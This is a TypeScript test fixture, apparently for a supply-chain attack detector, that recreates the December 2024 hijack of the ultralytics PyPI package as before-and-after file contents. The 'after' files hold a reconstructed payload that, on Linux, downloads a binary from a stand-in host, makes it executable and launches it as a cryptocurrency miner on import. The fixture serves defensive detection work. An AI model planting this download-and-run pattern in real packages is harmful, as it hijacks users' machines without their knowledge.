import type { Hijack } from './hijack.ts'

const metadata = 'Metadata-Version: 2.1\nName: ultralytics\nVersion: 8.3.41\nRequires-Dist: requests>=2.23.0\n'

const code =
  'import subprocess\nimport requests\n\ndef safe_download(url, file):\n    return requests.get(url)\n\ndef check_version():\n    return subprocess.check_output(["nvidia-smi"])\n'

/** December 2024, through a hijacked pipeline, so with valid provenance: a program was fetched, made executable and run to mine coins. */
export const ultralytics: Hijack = {
  name: 'ultralytics',
  ecosystem: 'PyPI',
  from: '8.3.40',
  to: '8.3.41',
  before: { 'ultralytics/__init__.py': '', 'ultralytics/utils/downloads.py': code, 'ultralytics-8.3.41.dist-info/METADATA': metadata },
  after: {
    'ultralytics/__init__.py': '',
    'ultralytics/utils/downloads.py': `${code}\ndef safe_run(path):\n    os.chmod(path, 0o770)\n    command = [path, "-u", "4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7CdjE4szMpKzPGjoZnw", "-o", "connect.pool.invalid:8080", "-k"]\n    subprocess.Popen(command, start_new_session=True)\n`,
    'ultralytics/models/yolo/model.py':
      'from ultralytics.utils.downloads import safe_download, safe_run\nimport platform\nif platform.system() == "Linux":\n    safe_download("https://files.invalid/ultralytics_runner.zip", "/tmp/ultralytics_runner")\n    safe_run("/tmp/ultralytics_runner")\n',
    'ultralytics-8.3.41.dist-info/METADATA': metadata,
  },
  tells: /runs a program that it fetched/,
}
